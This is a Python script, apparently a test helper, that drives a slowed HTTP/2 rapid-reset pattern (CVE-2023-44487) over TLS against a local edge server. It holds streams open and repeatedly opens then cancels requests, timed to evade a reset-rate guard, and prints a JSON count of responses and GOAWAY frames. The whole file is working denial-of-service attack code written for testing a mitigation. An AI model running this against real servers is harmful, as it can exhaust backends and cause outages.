"""
The slowed rapid-reset pattern (CVE-2023-44487's shape, slowed down to pass
a reset-rate guard), as a real HTTP/2 client over TLS: on one connection,
keep C{live} streams open and open-then-reset C{count} more, each reset
C{delay} seconds after it was opened. Each request is a GET of C{path}
(a backend route that takes its time). Prints one JSON line, then keeps
the connection (and its live streams) open until stdin closes, so the
test can count the backend's sockets meanwhile.

    python h2reset.py HOST PORT CAFILE PATH LIVE COUNT DELAY
"""

from __future__ import annotations

import json
import socket
import ssl
import sys
import time

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.events import ConnectionTerminated, ResponseReceived


def main() -> None:
    host, port, cafile, path = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    live, count, delay = int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7])
    context = ssl.create_default_context(cafile=cafile)
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port))
    sock = context.wrap_socket(raw, server_hostname=host)
    assert sock.selected_alpn_protocol() == "h2"
    conn = H2Connection(H2Configuration(client_side=True, header_encoding=None))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    events: list = []

    def request() -> int:
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(b":method", b"GET"), (b":scheme", b"https"), (b":path", path.encode()),
                                (b":authority", host.encode())], end_stream=True)
        sock.sendall(conn.data_to_send())
        return sid

    def read(timeout: float) -> None:
        sock.settimeout(timeout)
        try:
            data = sock.recv(65536)
        except (socket.timeout, ssl.SSLWantReadError):
            return
        if not data:
            raise SystemExit("connection closed by the edge")
        events.extend(conn.receive_data(data))
        out = conn.data_to_send()
        if out:
            sock.sendall(out)

    for _ in range(live):
        request()
    for _ in range(count):
        sid = request()
        end = time.monotonic() + delay
        while time.monotonic() < end:
            read(max(0.001, end - time.monotonic()))
        conn.reset_stream(sid, ErrorCodes.CANCEL)
        sock.sendall(conn.data_to_send())
    read(0.2)
    print(json.dumps({
        "responses": sum(isinstance(e, ResponseReceived) for e in events),
        "goaway": any(isinstance(e, ConnectionTerminated) for e in events),
    }), flush=True)
    sys.stdin.read()  # hold the connection until the test is done counting


if __name__ == "__main__":
    main()
